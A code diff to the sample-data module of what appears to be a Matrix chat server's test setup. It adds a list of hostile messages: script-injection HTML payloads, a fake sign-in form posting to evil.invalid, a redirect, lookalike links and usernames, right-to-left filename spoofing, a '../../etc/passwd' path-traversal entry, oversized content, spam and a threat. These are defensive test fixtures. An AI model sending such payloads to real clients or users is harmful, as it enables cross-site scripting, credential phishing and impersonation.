@@ -1,10 +1,11 @@
+/** What sample data is made of. */
 import type { JsonObject } from '../../../shared/api/common.ts';
 import { insertRegistrationToken } from '../../identity/registration/registration-token-store.ts';
 import type { Database } from '../../platform/database/schema.ts';
 
-/** Who lives on a sample server. Mallory and Trudy are the ones that get reported. */
 type Person = { localpart: string; displayName: string };
 
+/** They get reported. */
 export const troublemakers: Person[] = [
   { localpart: 'mallory', displayName: 'Mallory' },
   // Two Cyrillic letters make this name look like another person's.
@@ -26,9 +27,8 @@ export const regulars: Person[] = [
 
 export const people: Person[] = [...regulars, ...troublemakers];
 
-/** Where they talk. */
 export type SampleRoom = {
-  /** Local part of the alias; left out for a room that has none. */
+  /** Local part of the alias; undefined for a room without one. */
   alias?: string;
   name?: string;
   topic?: string;
@@ -64,10 +64,9 @@ export const reasons: (string | null)[] = [
   null,
 ];
 
-/** Registration tokens in every state. */
-
 const day = 24 * 60 * 60 * 1000;
 
+/** Adds registration tokens in every state. */
 export async function addTokens({ db }: { db: Database }, now: number): Promise<void> {
   const tokens = [
     { token: 'summer-school', usesAllowed: 30, expiryTime: now + 40 * day },
@@ -77,8 +76,6 @@ export async function addTokens({ db }: { db: Database }, now: number): Promise<
   ];
   for (const token of tokens) await insertRegistrationToken(db, token);
 }
-
-/** What people say: the content of ordinary `m.room.message` events. */
 
 export const text = (body: string): JsonObject => ({ msgtype: 'm.text', body });
 
@@ -138,3 +135,88 @@ export const ordinaryMessages: JsonObject[] = [
   emote('waves'),
   emote('is looking for the coffee'),
 ];
+
+const nested = (depth: number): unknown =>
+  Array.from({ length: depth }).reduce((inner) => ({ deeper: inner }), 'the bottom');
+
+/** Messages that try to run code, load trackers, deceive or exhaust. Their addresses don't exist. */
+export const hostileMessages: JsonObject[] = [
+  formatted('Free prize!', '<script>document.title = "owned"</script><b>Free prize!</b>'),
+  formatted(
+    'Look at this',
+    '<img src="https://tracker.invalid/pixel.gif" onerror="document.title=\'owned\'">Look at this',
+  ),
+  formatted('Click me', '<a href="javascript:document.title=\'owned\'">Click me</a>'),
+  formatted(
+    'Move over me',
+    '<div onmouseover="document.title=\'owned\'" onclick="alert(1)">Move over me</div>',
+  ),
+  formatted(
+    'A picture',
+    '<svg onload="document.title=\'owned\'"><foreignObject><iframe src="https://evil.invalid"></iframe></foreignObject></svg>A picture',
+  ),
+  formatted(
+    'Sign in again',
+    '<form action="https://evil.invalid"><input name="password" type="password"><button>Sign in again</button></form>',
+  ),
+  formatted(
+    'Everything is covered',
+    '<div style="position:fixed;inset:0;background:url(https://tracker.invalid/bg.png);z-index:9999">Everything is covered</div>',
+  ),
+  formatted(
+    'https://example.org/account',
+    '<a href="https://example.org.evil.invalid/account">https://example.org/account</a>',
+  ),
+  formatted(
+    'Meta',
+    '<meta http-equiv="refresh" content="0;url=https://evil.invalid"><base href="https://evil.invalid/">Meta',
+  ),
+  formatted('Unclosed', '<table><td><style>*{display:none}</style><b><i><u><span><p>Unclosed'),
+  // A right-to-left override hides what kind of file this is.
+  text('Please open invoice\u202Efdp.exe, it is urgent'),
+  text('The admins have moved: write to @аdmin:lосаlhost from now on'),
+  text('\u2067\u2066مرحبا\u2069 https://example.org/\u202Eevil\u202C \u2069'),
+  text(`Z̷̢̛a̴͓͝l̶̫͘g̵̬̈ơ̸͎ ${'\u0336\u0315'.repeat(200)}`),
+  text('spam '.repeat(12_000).trim()),
+  { msgtype: 'm.text', body: 'Deep', 'org.example.deep': nested(100) },
+  {
+    msgtype: 'm.image',
+    body: 'photo.png',
+    url: 'https://tracker.invalid/photo.png',
+    info: { mimetype: 'image/svg+xml' },
+  },
+  {
+    msgtype: 'm.file',
+    body: '../../etc/passwd',
+    filename: '../../etc/passwd',
+    url: 'mxc://localhost/../../secrets',
+  },
+  { msgtype: 'm.custom.unknown', body: 'A message of an unknown type' },
+  text('You are all idiots and I hope this server burns down.'),
+  text('Buy followers now!!! https://spam.invalid/?id=4711 100% legit'),
+  text('I know where you live, Grace.'),
+];
+
+/** Reproducible: the same sample server each time. */
+export type Random = {
+  /** At least 0, below 1. */
+  next(): number;
+  pick<Item>(items: readonly Item[]): Item;
+};
+
+/** Mulberry32. */
+export function seededRandom(seed: number): Random {
+  let state = seed;
+  const next = () => {
+    state = (state + 0x6d2b79f5) | 0;
+    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
+    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
+    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
+  };
+  const pick = <Item>(items: readonly Item[]): Item => {
+    const item = items[Math.floor(next() * items.length)];
+    if (item === undefined) throw new Error('nothing to pick from');
+    return item;
+  };
+  return { next, pick };
+}
